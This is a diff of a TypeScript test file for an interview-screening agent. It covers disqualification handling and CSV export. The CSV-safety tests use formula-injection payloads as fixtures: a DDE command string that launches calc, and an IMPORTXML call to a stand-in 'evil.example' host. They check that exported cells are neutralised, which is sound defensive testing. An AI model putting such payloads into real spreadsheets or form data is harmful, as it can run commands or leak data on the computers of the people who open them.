@@ -1,6 +1,7 @@
 import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import type { TaskGroupResult } from 'react-agent-tasks';
 import { renderWorkflow, scriptedLLM, type ScriptRule } from 'react-agent-tasks/testing';
 import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
@@ -9,7 +10,6 @@ import { createExampleCall } from '../shared/session.js';
 import { Printer } from '../cli/printer.js';
 import { simulate } from '../cli/simulate.js';
 import { survey, surveyDisqualified, surveyDropped } from './example.js';
-import { Disqualified } from './disqualify.js';
 import { Interview } from './interview.js';
 import { appendInterview, CSV_COLUMNS, InterviewWriteError, safeCell } from './record.js';
 import type { InterviewRecord, InterviewResults, InterviewUserData } from './types.js';
@@ -58,7 +58,7 @@ describe('<Interview>', () => {
 
   test('a malformed email goes back to the model as an error and the step stays', async () => {
     const flow = await renderWorkflow(<Interview />, {
-      llm: scriptedLLM([intro, { user: 'jane at example', toolCalls: [{ name: 'record_email', args: { email: 'jane at example' } }] }]),
+      llm: scriptedLLM([intro, { user: 'jane at example', toolCalls: [{ name: 'record_email', args: { email: 'jane at example' }, expectError: true }] }]),
     });
     await flow.say("I'm Jane Doe.");
     const turn = await flow.say('jane at example');
@@ -66,26 +66,20 @@ describe('<Interview>', () => {
     expect(flow.activeTask?.id).toBe('email');
   });
 
-  test('disqualify from any step: the answers so far and the reason are handed over, and the interview ends', async () => {
-    const disqualified: Array<[Partial<InterviewResults>, InterviewUserData]> = [];
-    const flow = await renderWorkflow(<Interview onDisqualified={async (results, data) => void disqualified.push([results, { ...data }])} />, {
-      llm: scriptedLLM([
-        intro,
-        email,
-        { user: /can't commute/, toolCalls: [{ name: 'disqualify', args: { reason: 'Cannot commute to the office.' } }] },
-      ]),
+  test.each([
+    ['intro', [], {}],
+    ['commute', ["I'm Jane Doe.", 'jane@example.org'], { intro: { name: 'Jane Doe', intro: 'Backend developer.' }, email: { email: 'jane@example.org' } }],
+  ])('disqualify in %s ends the group early and successfully: the answers so far, the disqualification, endedBy', async (step, before, answers) => {
+    const reason = 'Will not commute to the office.';
+    const flow = await renderWorkflow<TaskGroupResult, InterviewUserData>(<Interview />, {
+      llm: scriptedLLM([intro, email, { user: /won't commute/, toolCalls: [{ name: 'disqualify', args: { reason } }] }]),
     });
-    await flow.say("I'm Jane Doe.");
-    await flow.say('jane@example.org');
-    expect(flow.activeTask?.id).toBe('commute');
-    await flow.say("Sorry, I can't commute at all.");
-    expect(disqualified).toEqual([
-      [
-        { intro: { name: 'Jane Doe', intro: 'Backend developer.' }, email: { email: 'jane@example.org' } },
-        { candidateName: 'Jane Doe', disqualificationReason: 'Cannot commute to the office.' },
-      ],
-    ]);
-    await expect(flow.result).rejects.toEqual(new Disqualified('Cannot commute to the office.'));
+    for (const line of before) await flow.say(line);
+    expect(flow.activeTask?.id).toBe(step);
+    const turn = await flow.say("I won't commute, sorry.");
+    expect(turn.toolCalls[0]).toMatchObject({ name: 'disqualify', isError: false, output: JSON.stringify('The candidate is disqualified; the interview is over.') });
+    expect(await flow.result).toEqual({ taskResults: { ...answers, [step]: { disqualified: true, reason } }, endedBy: step });
+    expect(flow.tree()).toMatch(/task experience: pending[\s\S]*task behavioral: pending/);
   });
 });
 
@@ -112,7 +106,7 @@ describe('the survey agent', () => {
     expect(row).toMatch(/,Advance: strong backend experience[^,]*; probe delegation in the next round\.$/);
   });
 
-  test('a disqualified candidate hears a goodbye, the call ends, and gets a row with the reason and no evaluation', async () => {
+  test('a disqualified candidate hears a goodbye, the call ends, and gets a row with the answers so far, the reason, the summary and no evaluation', async () => {
     const csvPath = tempCsv();
     const said: string[] = [];
     const { call, run } = createExampleCall(surveyDisqualified, { llm: scriptedLLM(surveyDisqualified.simulation.script()) }, {
@@ -123,10 +117,12 @@ describe('the survey agent', () => {
     for (const line of surveyDisqualified.simulation.caller) await call.say(line);
     expect(call.closed).toBe(true);
     expect(said.at(-1)).toMatch(/won't move forward with your application\. Goodbye!$/);
-    expect(Object.fromEntries(run.report()).status).toBe('disqualified');
+    const report = Object.fromEntries(run.report());
+    expect(report).toMatchObject({ status: 'disqualified', disqualification: { step: 'commute', reason: 'Will not commute to the office.' }, evaluation: undefined });
+    expect(Object.keys(report.results as object)).toEqual(['intro', 'email']);
     const lines = readFileSync(csvPath, 'utf8').trimEnd().split('\n');
     expect(lines).toHaveLength(2);
-    expect(lines[1]).toMatch(/,disqualified,Jane Doe,.*,jane@example\.org,,,,,,,,Will not commute to the office\.,,$/);
+    expect(lines[1]).toMatch(/,disqualified,Jane Doe,.*,jane@example\.org,,,,,,,,Will not commute to the office\.,"Jane Doe \(jane@example\.org\) builds [^"]*will not commute to the office\.",$/);
   });
 });
 
@@ -191,6 +187,7 @@ describe('CSV safety', () => {
         experience: { years: -1, summary: 'ok' },
       },
       userData: { candidateName: '=cmd|"/c calc"!A1' },
+      disqualification: { step: 'behavioral', reason: '=IMPORTXML("http://evil.example")' },
       evaluation: 'fine',
     };
     await appendInterview(csvPath, record);
@@ -200,6 +197,7 @@ describe('CSV safety', () => {
     expect(row!.intro).toBe("'+1+1");
     expect(row!.weaknesses).toBe("'\t=1+1");
     expect(row!.years_of_experience).toBe("'-1");
+    expect(row!.disqualification_reason).toBe(`'=IMPORTXML("http://evil.example")`);
   });
 
   test('safeCell: any answer, the cell never starts a formula and keeps the answer after at most one apostrophe', () => {
